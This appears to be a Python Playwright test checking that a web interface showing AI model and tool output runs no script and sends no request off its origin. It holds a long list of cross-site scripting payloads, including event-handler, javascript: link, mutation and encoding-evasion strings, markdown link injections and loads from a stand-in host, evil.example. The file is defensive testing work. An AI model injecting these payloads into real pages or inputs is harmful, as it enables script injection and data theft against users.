"""What a model, a repository or a tool wrote does nothing in the page: no script runs, no request leaves its origin."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.page.conftest import Machine, write
from tests.waiting import wait_until

OUT = "https://evil.example/x"
RUN = "window.ran=1"

TAGS = [
    f"<script>{RUN}</script>",
    f"<script src={OUT}.js></script>",
    f"<script type=module>import '{OUT}.js'</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src={OUT}.png>",
    f"<img srcset='{OUT}.png 2x'>",
    f"<image src={OUT} onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><use href='{OUT}#x'/></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src={OUT}></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src={OUT}>",
    f"<video src={OUT} onerror={RUN}></video>",
    f"<audio src={OUT} autoplay></audio>",
    f"<video poster={OUT}></video>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<form action={OUT}><button>x</button></form>",
    f"<form><button formaction='javascript:{RUN}'>x</button></form>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href={OUT} ping={OUT}>x</a>",
    f"<base href={OUT}/>",
    f"<meta http-equiv=refresh content='0;url={OUT}'>",
    f"<link rel=stylesheet href={OUT}.css>",
    f"<link rel=prefetch href={OUT}>",
    f"<style>@import '{OUT}.css';</style>",
    f"<div style='background:url({OUT}.png)'>x</div>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<textarea></textarea><img src=x onerror={RUN}>",
    f"--><img src=x onerror={RUN}><!--",
    f"]]><script>{RUN}</script>",
    f'"><img src=x onerror={RUN}>',
    f"'-{RUN}-'",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"\u003cimg src=x onerror={RUN}\u003e",
    f"＜script＞{RUN}＜/script＞",
    f"<img\u0000src=x onerror={RUN}>",
    f"<img src=x o\u2028nerror={RUN}>",
]
LINKS = [
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](<java\nscript:{RUN}>)",
    f"[x](&#106;avascript:{RUN})",
    f"[x](&#x6a;avascript&colon;{RUN})",
    f"[x](\u0001javascript:{RUN})",
    f"[x](vbscript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"[x](blob:http://127.0.0.1/{RUN})",
    "[x](file:///etc/passwd)",
    "[x](/page/logout)",
    "[x](//evil.example/x)",
    "[x](#/sessions)",
    "[x](view-source:http://127.0.0.1)",
    f"[x]({OUT} \"a' onclick='{RUN}\")",
    f"[x]({OUT}'onmouseover='{RUN}')",
    f"[x][r]\n\n[r]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"![x]({OUT}.png)",
    f"![x](javascript:{RUN})",
    f"![x](data:image/svg+xml,<svg onload={RUN}>)",
    f"[![x]({OUT}.png)](javascript:{RUN})",
    f'```html" onload="{RUN}\n<img src=x onerror={RUN}>\n```',
    f'```"><img src=x onerror={RUN}>\nx\n```',
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f"# <img src=x onerror={RUN}>",
    f"- [ ] <img src=x onerror={RUN}>",
    f"> <svg onload={RUN}>",
    f"`<img src=x onerror={RUN}>`",
    "[__proto__]: x\n[constructor]: y\n\n[__proto__] [constructor]",
]
PAYLOADS = [*TAGS, *LINKS]


def test_nothing_that_was_written_runs_or_leaves_the_page(
    machine: Machine, log_in: Callable[..., Any], browser: Any
) -> None:
    assert len(PAYLOADS) >= 60
    for number, payload in enumerate(PAYLOADS):
        name = payload.replace("/", "∕").replace("\x00", "").replace("\n", " ")[:80]
        (machine.project / f"{number} {name}").write_text(payload)
    served = machine.start(script(machine.project), permission={"bash": "ask"})
    asked: list[str] = []
    browser.on("request", lambda request: asked.append(request.url))
    browser.on("dialog", lambda dialog: asked.append(f"dialog {dialog.message}"))
    reports: list[str] = []
    browser.on("console", lambda message: reports.append(message.text))
    for payload in PAYLOADS:
        served.session(title=payload)
    page = log_in(served)
    for number in range(0, len(PAYLOADS), 20):
        write(page, "\n\n".join(PAYLOADS[number : number + 20]))
        if number == 0:
            page.wait_for_selector(".asks")
            page.wait_for_timeout(600)
            look(page)
            page.click(".asks >> text=Once")
        page.wait_for_selector(f"text=turn {number // 20} is over")
    look(page)
    assert page.locator("text=javascript:").count() > 10, "the payloads are there, as text"
    page.goto(served.url + "/#/sessions")
    page.wait_for_selector(".list li")
    look(page)
    origin = f"{served.url}/"
    assert [url for url in asked if not url.startswith((origin, "data:"))] == []
    # A policy that had to step in would say so: the page itself lets nothing so far.
    assert [text for text in reports if "Content Security Policy" in text] == []


def look(page: Any) -> None:
    """Open all that is folded, point at all that can be pointed at, and see what the page is made of."""
    page.evaluate("document.querySelectorAll('.fold:not([open]) > summary').forEach((one) => one.click())")
    wait_until(lambda: page.locator(".fold:not([open])").count() == 0)
    found = page.evaluate(
        """() => {
            const kinds = ["mouseover", "focus", "load", "error"];
            for (const one of document.querySelectorAll("*"))
                for (const kind of kinds) one.dispatchEvent(new Event(kind));
            const all = [...document.querySelectorAll("*")];
            return {
                ran: window.ran ?? null,
                tags: all.map((one) => one.localName),
                handlers: all.flatMap((one) => one.getAttributeNames())
                    .filter((name) => /^on|^style$|^srcdoc$/.test(name)),
                links: [...document.querySelectorAll("a[href]")].map((one) => [one.protocol, one.origin, one.rel]),
                images: [...document.querySelectorAll("img")].map((one) => one.src),
                scripts: document.scripts.length,
            };
        }"""
    )
    assert found["ran"] is None
    bad = {
        "iframe",
        "object",
        "embed",
        "video",
        "audio",
        "base",
        "style",
        "svg",
        "math",
        "marquee",
        "template",
    }
    assert bad & set(found["tags"]) == set()
    assert found["handlers"] == []
    assert found["scripts"] == 1
    assert found["images"] == []
    here = page.evaluate("location.origin")
    for protocol, origin, rel in found["links"]:
        assert protocol in ("http:", "https:", "mailto:")
        assert origin == here or "noopener" in rel


def script(folder: Path) -> str:
    """A model that says all of it, calls tools with it, and gets it back from them."""
    command = {"command": f"echo {json.dumps(PAYLOADS[0])}", "description": PAYLOADS[0]}
    calls = [f"tool: bash {json.dumps(command)}", 'tool: list {"path": "."}']
    calls += [f"tool: grep {json.dumps({'pattern': one, 'path': one})}" for one in PAYLOADS[::7]]
    calls += [f"tool: read {json.dumps({'filePath': str(next(folder.iterdir()))})}"]
    text = "\n\n".join(PAYLOADS)
    said = f"reasoning: <<END\n{text}\nEND\ntext: <<END\n{text}\nEND\n"
    turns = [f"== turn\n{said}" + "\n".join(calls), f"== turn\n{said}text: turn 0 is over\n"]
    turns += [f"== turn\n{said}text: turn {number} is over\n" for number in range(1, 9)]
    return f"== title\ntext: {PAYLOADS[0]}\n" + "\n".join(turns)
